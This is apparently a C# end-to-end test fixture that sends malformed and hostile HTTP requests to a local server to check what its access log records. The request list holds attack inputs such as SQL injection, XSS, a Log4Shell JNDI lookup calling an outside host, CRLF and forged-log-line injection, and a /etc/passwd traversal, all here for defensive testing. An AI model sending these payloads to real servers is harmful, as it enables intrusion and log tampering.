using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Leafwatch.EndToEnd.Servers;

/// <summary>A request as an attacker would write it, byte for byte, and what a server's log must make of it.</summary>
/// <param name="Text">The bytes, one a character.</param>
/// <param name="Target">The target as it was asked for, where every server takes it down.</param>
/// <param name="User">The name that was given: as far as the first colon, where the password begins (RFC 7617, section 2).</param>
/// <param name="Agent">What the client said it is.</param>
internal sealed record OddRequest(string Text, string? Target = null, string? User = null, string? Agent = null)
{
    private const string LogLine = "\" 200 1 \"-\" \"-\" 203.0.113.9 - root [19/Nov/2026:08:00:00 +0000] \"GET /admin HTTP/1.1\" 200 1";

    public static IReadOnlyList<OddRequest> All { get; } =
    [
        Get("/", "Mozilla/5.0 (X11; Linux x86_64)"),
        Get("/missing/page.php?id=1%27%20OR%201=1", "curl/8.5.0"),
        Get("/a?q=<script>alert(1)</script>&x=\"quoted\"", "a \"quoted\" \\ name"),
        Get("/" + LogLine.Replace(' ', '+'), LogLine),
        Get("/${jndi:ldap://203.0.113.9/x}", "${jndi:ldap://203.0.113.9/x}"),
        Get("/%0d%0a203.0.113.9%20-%20-", "tab\there"),
        Get("/" + new string('x', 3000), new string('y', 2000)),
        Get("/bytes", "\u0080\u00ff\u00c3\u00a9"),
        Get("/members", "sign-in", "bob"),
        Get("/members", "sign-in", LogLine),
        Get("/members", "sign-in", "from 203.0.113.9 port 22 ssh2"),
        new("HEAD / HTTP/1.0\r\n\r\n", "/"),
        new("OPTIONS * HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n"),
        new("GET http://203.0.113.9/proxy HTTP/1.1\r\nHost: 203.0.113.9\r\nConnection: close\r\n\r\n"),
        new("POST /form HTTP/1.1\r\nHost: example.org\r\nContent-Length: 3\r\nConnection: close\r\n\r\na=b", "/form"),
        new("\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003\r\n\r\n"),
        new("GET\r\n\r\n"),
        new("quit\r\n\r\n"),
        new("GET / nothing HTTP/1.1\r\nHost: example.org\r\n\r\n"),
        new("GET /../../etc/passwd HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n"),
        new("DELETE /x HTTP/1.1\r\nHost: example.org\r\nX-Forwarded-For: 203.0.113.9\r\nConnection: close\r\n\r\n", "/x"),
    ];

    /// <summary>Sends it, and waits for the whole answer.</summary>
    /// <returns>The status code, or nothing where the server hung up without one.</returns>
    public async Task<string> SendAsync(int port)
    {
        using TcpClient client = new();
        await client.ConnectAsync(IPAddress.Loopback, port);
        NetworkStream stream = client.GetStream();
        await stream.WriteAsync(Encoding.Latin1.GetBytes(Text));
        client.Client.Shutdown(SocketShutdown.Send);
        byte[] answer = new byte[64 * 1024];
        int length = 0;
        try
        {
            length = await stream.ReadAtLeastAsync(answer, answer.Length, throwOnEndOfStream: false).AsTask().WaitAsync(TimeSpan.FromSeconds(10));
        }
        catch (IOException)
        {
            // Reset: there is no answer.
        }

        string[] status = Encoding.Latin1.GetString(answer, 0, length).Split('\r')[0].Split(' ');
        return status is [var version, var code, ..] && version.StartsWith("HTTP/", StringComparison.Ordinal) ? code : "";
    }

    private static OddRequest Get(string target, string agent, string? user = null)
    {
        string credentials = user is null ? "" : $"Authorization: Basic {Convert.ToBase64String(Encoding.Latin1.GetBytes(user + ":wrong"))}\r\n";
        return new OddRequest(
            $"GET {target} HTTP/1.1\r\nHost: example.org\r\nUser-Agent: {agent}\r\n{credentials}Connection: close\r\n\r\n",
            target.Contains('"', StringComparison.Ordinal) || target.Contains('<', StringComparison.Ordinal) ? null : target,
            user?.Split(':')[0],
            agent);
    }
}
